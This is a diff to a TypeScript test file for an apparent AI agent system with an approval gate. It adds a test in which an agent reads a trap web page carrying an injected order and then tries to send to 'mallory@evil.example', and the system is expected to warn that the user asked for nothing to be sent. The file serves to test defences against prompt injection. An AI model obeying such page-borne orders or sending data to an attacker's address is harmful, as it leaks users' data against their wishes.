@@ -72,12 +72,12 @@ const ending: ScriptedCall = {
   value: { action: null, outcome: "cannot", reason: "over" },
 };
 
-async function open(script: readonly ScriptedCall[]) {
+async function open(script: readonly ScriptedCall[], asked = prompt) {
   const site = await startTrapSite({ "page.example/": `<h1>News</h1><p>All is well.</p><p>${order}</p>` });
   closing.push(site.close);
   const folder = mkdtempSync(join(tmpdir(), "dossier-outside-"));
   const all = await openScripted(
-    [analysis(prompt, { requiresDocuments: false }), ...script],
+    [analysis(asked, { requiresDocuments: asked !== prompt }), ...script],
     { plugins: [writePlugin(folder)] },
     { parts: { network: site.network } },
   );
@@ -111,6 +111,17 @@ test("what was allowed beforehand is asked for all the same once a page was read
   await dossier.approve(handle.workflowId, { decision: "reject", reason: "never" });
   await handle.result(limit());
   expect(sent).toThrow();
+});
+
+test("something to be sent for a request that only asks is told to be nobody's wish", async () => {
+  const asking = "What does http://page.example/ say on the weather?";
+  const { dossier } = await open([...crawl, ...send("mallory@evil.example"), ending], asking);
+  const handle = await dossier.start({ prompt: asking });
+  expect((await untilAsked(handle)).warnings).toContain(
+    "Your request asks for nothing to be written, sent or put anywhere.",
+  );
+  await dossier.approve(handle.workflowId, { decision: "reject", reason: "never" });
+  await handle.result(limit());
 });
 
 test("a target that the person named is not marked", async () => {
